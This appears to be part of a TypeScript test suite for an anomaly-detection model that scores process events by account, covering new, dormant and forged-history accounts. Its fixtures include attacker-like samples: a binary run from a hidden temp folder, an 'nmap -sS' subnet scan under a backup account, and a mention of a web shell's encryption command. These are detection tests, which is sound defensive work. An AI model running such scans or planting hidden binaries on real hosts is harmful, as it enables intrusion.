    for (let i = 0; i < 30; i++) history.push([e('alice', tools[i % tools.length], start + d * DAY + 9 * 3600 + i * 600)]);
  }
  const m = createModel('rarity');
  await m.fit(history);
  const t0 = start + 10 * DAY + 10 * 3600;
  const value = async (model: Model, x: BehaviourEvent) => (await model.score([{ event: x, context: [] }]))[0].value;
  const usual = await value(m, e('alice', '/usr/bin/git', t0));
  const first = e('lee', '/usr/bin/ls', t0);
  const firstValue = await value(m, first);
  t.ok(firstValue > usual + 4, `a new account's first event is evidence (${firstValue.toFixed(2)} bits, alice's git ${usual.toFixed(2)})`);
  // seen, not learnt: the verdict on it was bad, so the pool does not observe it
  m.witness!(first);
  const routine = await Promise.all(tools.map((x, i) => value(m, e('lee', x, t0 + 60 * (i + 1)))));
  for (const [i, v] of routine.entries()) t.ok(v <= usual + 1, `its next events are judged as the host's habits are: ${tools[i]} ${v.toFixed(2)} bits`);
  const later = await value(m, e('lee', '/usr/bin/git', t0 + 20 * DAY));
  t.ok(later <= usual + 1, `and so while the pool has learnt none of its events, weeks later (${later.toFixed(2)} bits)`);
  // an attacker's new account: its first event is evidence, and so is what is new to the host
  m.witness!(e('pgsync', '/usr/bin/id', t0));
  const odd = await value(m, e('pgsync', '/tmp/.x/k', t0 + 60, 'temp-hidden'));
  t.ok(odd > usual + 4, `a binary from a hidden temporary folder is evidence by itself (${odd.toFixed(2)} bits)`);

  // the record is state; a state saved before it knows the accounts it learnt
  const state = JSON.parse(JSON.stringify(m.toState()));
  const again = loadModel(state);
  t.equal(await value(again, e('lee', '/usr/bin/git', t0 + 3600)), await value(m, e('lee', '/usr/bin/git', t0 + 3600)), 'a state round trip keeps the record');
  delete state.accounts;
  const older = loadModel(state);
  t.ok((await value(older, e('alice', '/usr/bin/git', t0))) === usual, 'an older state knows the accounts it learnt');
  t.ok((await value(older, e('lee', '/usr/bin/git', t0))) > usual + 4, 'and not those it only saw: their next event is their first again');
  // a retraining fits the good events only, and keeps the record of the model it replaces
  const retrained = createModel('rarity');
  await retrained.fit(history, m);
  t.ok((await value(retrained, e('lee', '/usr/bin/git', t0 + 3600))) <= usual + 1, 'a retraining keeps the record');
});

t.test("a pooled baseline's record of accounts: an account it learnt and the host then forgot is new again, as the host's own are (review10)", async (t) => {
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const e = (who: string, exe: string, time: number): BehaviourEvent => ({
    key: `exec ${exe}`,
    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', 'exeloc=system', `who=${who}`],
    pairs: [`parent=/bin/bash>exe=${exe}`, `who=${who}>exe=${exe}`, `who=${who}>exeloc=system`, `who=${who}>kind=process`],
    text: '',
    time,
  });
  const tools = ['/usr/bin/git', '/usr/bin/vim', '/usr/bin/make', '/usr/bin/ls'];
  const days = (from: number, to: number, who: string[]): BehaviourEvent[][] => {
    const out: BehaviourEvent[][] = [];
    for (let d = from; d < to; d++) {
      for (let i = 0; i < 40; i++) out.push([e('backup', '/usr/bin/gzip', start + d * DAY + 3600 + i * 30)]);
      for (const w of who) for (let i = 0; i < 30; i++) out.push([e(w, tools[i % tools.length], start + d * DAY + 9 * 3600 + i * 600)]);
    }
    return out;
  };
  const value = async (model: Model, x: BehaviourEvent) => (await model.score([{ event: x, context: [] }]))[0].value;
  // the pool's first fit: alice and carol are the host's own
  const m = createModel('rarity');
  await m.fit(days(0, 10, ['alice', 'carol']));
  // lee joins on day 10: its first row is witnessed, and the pool learns its good rows for
  // a month, as it learns everyone's
  const joined = start + 10 * DAY + 9 * 3600;
  m.witness!(e('lee', '/usr/bin/ls', joined));
  for (const [x] of days(10, 40, ['alice', 'carol', 'lee'])) {
    m.observe!(x, []);
    m.witness!(x);
  }
  // lee and carol then fall silent; months later the retrainings fit windows without them
  let pool = m;
  for (let k = 0; k < 3; k++) {
    const next = createModel('rarity');
    await next.fit(days(100 + 10 * k, 110 + 10 * k, ['alice']), pool);
    pool = next;
  }
  const now = start + 130 * DAY + 10 * 3600;
  const usual = await value(pool, e('alice', '/usr/bin/git', now));
  const carol = await value(pool, e('carol', '/usr/bin/git', now));
  const lee = await value(pool, e('lee', '/usr/bin/git', now));
  t.ok(carol > usual + 4, `a dormant account of the host's first fit is evidence when it acts again (${carol.toFixed(2)} bits, alice ${usual.toFixed(2)})`);
  t.ok(lee > usual + 4, `so is a dormant account the pool once recorded as new and then learnt (${lee.toFixed(2)} bits), not quiet for ever`);
});

t.test("an account's own shell history does not make it one that often brings something new (review13)", async (t) => {
  // the history is a file its account writes: a service account with a shell that appends a
  // line of a program never seen every day claimed a developer's rate of new values, and the
  // web shell's `openssl enc` under it counted as a developer's new tool (person-mimicry)
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const ev = (who: string, kind: string, exe: string, cmd: string, time: number): BehaviourEvent => ({
    key: `${kind} ${exe}`,
    values: [`kind=${kind}`, `exe=${exe}`, `cmd=${cmd}`, `who=${who}`],
    pairs: [`exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`, `who=${who}>kind=${kind}`],
    text: '',
    time,
  });
  const JOBS = ['/usr/bin/pg_dump', '/usr/bin/gzip', '/usr/bin/rsync'];
  const words = 'alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike november'.split(' ');
  const fit = async (forged: boolean) => {
    const train: BehaviourEvent[] = [];
    for (let d = 0; d < 14; d++) {
      const day = start + d * DAY;
      for (let i = 0; i < 3; i++) for (const job of JOBS) train.push(ev('backup', 'process', job, `${job.split('/').pop()} -a`, day + 2 * 3600 + i * 60));
      for (let i = 0; i < 20; i++) train.push(ev('ops', 'process', '/usr/bin/git', 'git status', day + 9 * 3600 + i * 60));
      train.push(ev('ops', 'shell', 'git', 'git status', day + 9 * 3600));
      if (forged) train.push(ev('backup', 'shell', words[d], `${words[d]} --help`, day + 3 * 3600));
    }
    const m = createModel('rarity');
    await m.fit(train.map((e) => [e]));
    return m;
  };
  const t0 = start + 14 * DAY + 12 * 3600;
  const nmap = ev('backup', 'process', '/usr/bin/nmap', 'nmap -sS 10.0.0.0/24', t0);
  const [plain] = await (await fit(false)).score([{ event: nmap, context: [] }]);
  const [forged] = await (await fit(true)).score([{ event: nmap, context: [] }]);
  t.ok(
    forged.value > plain.value - 0.5,
    `backup's first nmap weighs as much after fourteen forged history lines (${forged.value.toFixed(2)}) as without (${plain.value.toFixed(2)})`,
  );
  t.match(forged.detail, /`backup` brought a new value in 0 of/, `reason: ${forged.detail}`);
});
